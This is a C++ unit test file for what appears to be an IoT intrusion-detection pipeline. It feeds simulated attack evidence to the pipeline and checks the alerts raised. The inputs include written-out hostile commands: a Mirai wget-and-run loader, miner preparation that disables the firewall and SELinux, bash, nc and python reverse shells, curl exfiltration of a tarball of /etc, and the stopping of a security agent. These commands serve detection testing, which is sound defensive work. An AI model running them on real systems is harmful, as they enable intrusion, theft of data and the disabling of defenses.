// The attacks of the catalogue, as the evidence that reaches the pipeline, and the alerts they must raise.
#include <gmock/gmock.h>

#include "tests/pipeline_core/support.h"

namespace picket {
namespace {

using namespace testing_support;
using ::testing::IsSupersetOf;

struct Attack : Bench {
  Attack() { add_own_rules(builder); }
  Time time(std::int64_t seconds) const { return kStart + Duration::seconds(seconds); }
};

TEST(Attacks, mirai_is_seen_by_guesses_loader_and_scan) {
  Attack a;
  std::vector<Observation> guesses;
  for (int i = 0; i < 8; ++i)
    guesses.push_back(login(a.texts, a.time(i * 2), LoginOperation::kLoginFailed, "203.0.113.77"));
  guesses.push_back(login(a.texts, a.time(20), LoginOperation::kLogin, "203.0.113.77"));
  const std::vector<Observation> loader{
      exec(a.texts, a.time(22), "/bin/busybox ECCHI"),
      exec(a.texts, a.time(23), "/bin/busybox cat /proc/mounts; /bin/busybox ECCHI"),
      exec(a.texts, a.time(25), "/bin/busybox wget http://198.51.100.9:80/bins/mirai.mips -O - > dvrHelper"),
      exec(a.texts, a.time(26), "/bin/busybox chmod 777 dvrHelper"),
      exec(a.texts, a.time(27), "./dvrHelper telnet.mips")};
  a.start();
  a.send(a.time(60), guesses);
  a.send(a.time(61), loader);
  for (int m = 0; m < 3; ++m) {
    std::vector<Observation> scan;
    for (int i = 0; i < 60; ++i)
      scan.push_back(flow(a.time(70 + m), "198.51." + std::to_string(100 + m) + '.' + std::to_string(i + 1),
                          i % 10 == 0 ? 2323 : 23, 0));
    a.send(a.time(100 + m), scan);
  }
  a.advance(a.time(200));
  EXPECT_THAT(a.sink->alerts(),
              IsSupersetOf({"sim.bruteforce_success", "Behavior similar to common Linux bots detected",
                            "Suspicious file download followed by file run activity", "Possible backdoor detected",
                            "sim.scan_out"}));
}

TEST(Attacks, a_miner_is_seen_by_its_preparations_and_image) {
  Attack a;
  const std::vector<Observation> steps{
      exec(a.texts, kStart, "ufw disable"), exec(a.texts, kStart, "setenforce 0"),
      exec(a.texts, kStart, "curl -o /tmp/kdevtmpfsi http://203.0.113.40/kdevtmpfsi"),
      exec(a.texts, kStart, "nohup /tmp/kdevtmpfsi -o stratum+tcp://203.0.113.41:3333"),
      exec(a.texts, kStart, "/tmp/kdevtmpfsi -o stratum+tcp://203.0.113.41:3333", "/tmp/kdevtmpfsi")};
  a.start();
  a.send(a.time(10), steps);
  a.advance(a.time(20));
  EXPECT_THAT(a.sink->alerts(), IsSupersetOf({"Crypto coin miner image", "Detected suspicious use of the nohup command",
                                              "Disable firewall", "Possible backdoor detected"}));
}

TEST(Attacks, ssh_guessing_is_seen_from_single_and_from_aggregated_failures) {
  for (const bool aggregated : {false, true}) {
    Attack a;
    std::vector<Observation> guesses;
    if (aggregated) {
      // 20 a minute for 15 minutes in an hourly window: 100 in ten minutes of an evenly filled hour... 300 * 10 / 60
      // = 50.
      Observation o = login(a.texts, a.time(3600), LoginOperation::kLoginFailed, "203.0.113.8", 300);
      o.first_time = kStart;
      o.aggregated = true;
      guesses.push_back(o);
    } else {
      for (int i = 0; i < 40; ++i)
        guesses.push_back(login(a.texts, a.time(i * 3), LoginOperation::kLoginFailed, "203.0.113.8"));
    }
    a.start();
    a.send(a.time(3600), guesses);
    a.advance(a.time(3700));
    EXPECT_EQ(a.sink->count("sim.bruteforce_failed"), 1u) << aggregated;
    EXPECT_EQ(a.sink->count("sim.bruteforce_success"), 0u);
  }
}

TEST(Attacks, a_reverse_shell_is_seen_by_its_command) {
  for (const char* command :
       {"bash -c bash -i >& /dev/tcp/203.0.113.9/443 0>&1", "nc 203.0.113.9 4444 -e /bin/sh",
        "python3 -c import socket,subprocess,os;s=socket.socket();subprocess.call([\"/bin/sh\",\"-i\"])"}) {
    Attack a;
    const Observation o = exec(a.texts, kStart, command);
    a.start();
    a.send(kStart, {o});
    a.advance(kStart);
    EXPECT_EQ(a.sink->count("Reverse shells"), 1u) << command;
  }
}

TEST(Attacks, bulk_exfiltration_is_seen_by_command_and_by_volume) {
  Attack a;
  const std::vector<Observation> commands{
      exec(a.texts, a.time(100 * 3600), "tar czf /tmp/.d.tgz /etc /var/lib/edge"),
      exec(a.texts, a.time(100 * 3600), "curl -T /tmp/.d.tgz https://203.0.113.50/in")};
  a.start();
  a.core->set_learning(true);
  for (int hour = 0; hour < 48; ++hour)
    a.send(a.time(hour * 3600), {flow(a.time(hour * 3600), "198.51.100.1", 443, 2'000'000)});
  a.advance(a.time(99 * 3600));
  a.core->set_learning(false);
  a.send(a.time(100 * 3600 + 5), commands);
  a.send(a.time(100 * 3600 + 600), {flow(a.time(100 * 3600 + 500), "203.0.113.50", 443, 900'000'000)});
  a.advance(a.time(101 * 3600));
  EXPECT_EQ(a.sink->count("Possible loss of data detected"), 1u);
  ASSERT_EQ(a.sink->count("sim.egress_volume"), 1u);
  const auto found = std::find_if(a.sink->findings.begin(), a.sink->findings.end(),
                                  [](const auto& f) { return f.alert == "sim.egress_volume"; });
  EXPECT_THAT(found->evidence, ::testing::Contains(Evidence{DeviceId(0), 49, 0}));
}

TEST(Attacks, a_killed_agent_is_seen_by_its_last_words_or_by_its_silence) {
  Attack a;
  const Observation kill = exec(a.texts, a.time(600), "systemctl stop defender-iot-micro-agent");
  a.start(2, Duration::minutes(10));
  a.send(a.time(600), {kill}, 0);
  a.send(a.time(600), {}, 1);
  a.advance(a.time(600 + 1800));
  EXPECT_THAT(a.sink->alerts(), ::testing::ElementsAre("sim.agent_stopped", "sim.device_silent", "sim.device_silent"));
}

TEST(Attacks, a_device_that_does_many_new_things_alone_is_novel) {
  Attack a;
  std::vector<Text> usual;
  for (int i = 0; i < 10; ++i)
    usual.push_back(a.texts.intern("/usr/bin/usual" + std::string(1, static_cast<char>('a' + i))));
  std::vector<Observation> strange;
  for (const char* word : {"alpha", "beta", "gamma", "delta", "epsilon"})
    strange.push_back(exec(a.texts, a.time(200'000), std::string("/opt/odd/") + word));
  const Observation numbered1 = exec(a.texts, a.time(200'000), "/usr/bin/usuala");
  a.start(50);
  a.core->set_learning(true);
  for (std::uint32_t d = 0; d < 50; ++d) {
    std::vector<Observation> o;
    for (const Text t : usual) o.push_back(at(kStart, ProcessRecord{t, {}, 1, 1, 0, ProcessOperation::kExec}));
    a.send(kStart, o, d);
  }
  a.advance(a.time(100'000));
  a.core->set_learning(false);
  // An update reaches a third of the class at once: not the devices' fault.
  for (std::uint32_t d = 10; d < 50; ++d) a.send(a.time(200'001), {numbered1}, d);
  a.send(a.time(200'002), {strange[0], strange[1], strange[2], strange[3]}, 3);
  a.advance(a.time(200'009));
  EXPECT_EQ(a.sink->count("sim.novel_process"), 0u);
  a.send(a.time(200'010), {strange[4]}, 3);
  a.advance(a.time(200'100));
  ASSERT_EQ(a.sink->count("sim.novel_process"), 1u);
  EXPECT_EQ(a.sink->findings[0].device, 3u);
  EXPECT_EQ(a.sink->findings[0].evidence.size(), 5u);
}

}  // namespace
}  // namespace picket
